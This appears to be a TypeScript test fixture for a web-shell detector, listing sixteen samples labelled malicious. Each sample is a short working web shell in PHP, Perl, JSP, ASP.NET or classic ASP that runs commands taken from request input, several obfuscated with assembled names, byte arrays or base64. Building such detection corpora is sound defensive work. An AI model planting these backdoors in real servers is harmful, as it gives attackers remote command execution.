// Pages of servers that run what they are sent, by the ways that are not a single line: behind markup, through routines of their
// own, by names that they put together.
import { type Suspect, text } from './suspect.ts'

const shell = (name: string, body: string): Suspect => text(name, 'malicious', ['script_is_web_shell'], body)

export const serverPages: readonly Suspect[] = [
  shell(
    'behind-title.php',
    '<html><head><title>status</title></head><body><h1>Status</h1>\n<?\n$task = $_POST["task"];\nif ($task) { echo "<pre>"; passthru($task); }\n?>\n</body></html>',
  ),
  shell('short-tag.php', '<?\n$order = $_GET["order"];\n$out = shell_exec($order);\n?>\n<pre><?= $out ?></pre>\n'),
  shell(
    'style.dat',
    '<? @extract($_POST);\n$look = "body { color: red; } td { margin: 0; } a:hover { color: blue }";\nsystem($_POST["line"]);\n',
  ),
  shell(
    'asks-itself.php',
    '<html><body><form method=post>Job: <input type=text name=job></form>\n<?php if ($job != "") { system("$job 2>&1"); } ?>\n</body></html>',
  ),
  shell('named-bare.php', '<?php\n$how = passthru;\necho "<pre>" . $how($_POST["line"]) . "</pre>";\n'),
  shell(
    'callback-decoded.php',
    '<?php\n$who = $_REQUEST["who"];\n$what = array($_POST["what"], );\narray_map(base64_decode($who), $what);\n',
  ),
  shell(
    'all-that-was-sent.php',
    '<?php\n$made = substr(base64_decode("c3lzdGVtLi4u"), 0, 6);\nforeach (array("_POST", "_GET") as $kind) { foreach ($$kind as $key => $value) { $$key = $value; } }\n$made($value);\n',
  ),
  shell(
    'names-in-pieces.php',
    '<?php $l = "edocab46_lvs"; $f = $l[3].$l[4].$l[11].$l[0].$l[6].$l[7].$l[8].$l[1].$l[0].$l[2].$l[3].$l[1]; $v = $_COOKIE["k"]; if (isset($v)) { eval($f($v)); }\n',
  ),
  shell(
    'list.cgi.pl',
    '#!/usr/bin/perl\nuse strict;\nmy %form = take_apart($ENV{"QUERY_STRING"});\nmy $job = $form{"job"};\nprint "Content-Type: text/html\\n\\n";\nopen(OUT, "($job) 2>&1 |");\nprint while <OUT>;\n',
  ),
  shell(
    'later.pl',
    '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n";\n&take;\nopen(H, "cd $want{dir}&&$want{job}|");\nprint <H>;\nsub take {\n read(STDIN, $body, $ENV{"CONTENT_LENGTH"});\n @all = split(/&/, $body);\n foreach $one (@all) {\n  ($key, $value) = split(/=/, $one);\n  $want{$key} = $value;\n }\n}\n',
  ),
  shell(
    'expression.jsp',
    '<%@ page import="java.beans.Expression" %>\n<%\nString job = request.getParameter("job");\nExpression made = new Expression(Runtime.getRuntime(), "exec", new Object[]{job});\nProcess p = (Process) made.getValue();\n%>',
  ),
  shell(
    'by-bytes.jsp',
    '<%@ page import="java.util.Scanner" %>\n<%\nString job = request.getParameter("q");\nClass c = Class.forName(new String(new byte[] { 106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116, 105, 109, 101 }));\nObject r = c.getMethod(new String(new byte[] { 103, 101, 116, 82, 117, 110, 116, 105, 109, 101 })).invoke(null);\nc.getMethod("ex" + "ec", String.class).invoke(r, job);\n%>',
  ),
  shell(
    'own-loader.jsp',
    '<%!class Own extends ClassLoader { Own(ClassLoader above) { super(above); } Class take(byte[] b) { return super.defineClass(b, 0, b.length); } }%><% byte[] body = java.util.Base64.getDecoder().decode(request.getReader().readLine()); new Own(getClass().getClassLoader()).take(body).newInstance().equals(pageContext); %>',
  ),
  shell(
    'typed-in.ashx',
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics; using System.Web;\npublic class H : IHttpHandler { public void ProcessRequest (HttpContext c) {\nstring line = c.Request["line"];\nProcess p = new Process();\np.StartInfo.FileName = "cmd.exe";\np.Start();\np.StandardInput.WriteLine(line);\n} }',
  ),
  shell(
    'typed-name.aspx',
    '<%@ Page Language="Jscript" %>\n<%var sent:String = Request["k"];eval\n(sent, "unsafe");%>',
  ),
  shell(
    'in-a-page.asp.html',
    '<html><body><form><input name=q></form>\n<% Dim q : q = Request.Form("q") : If q <> "" Then ExecuteGlobal q %></body></html>',
  ),
]
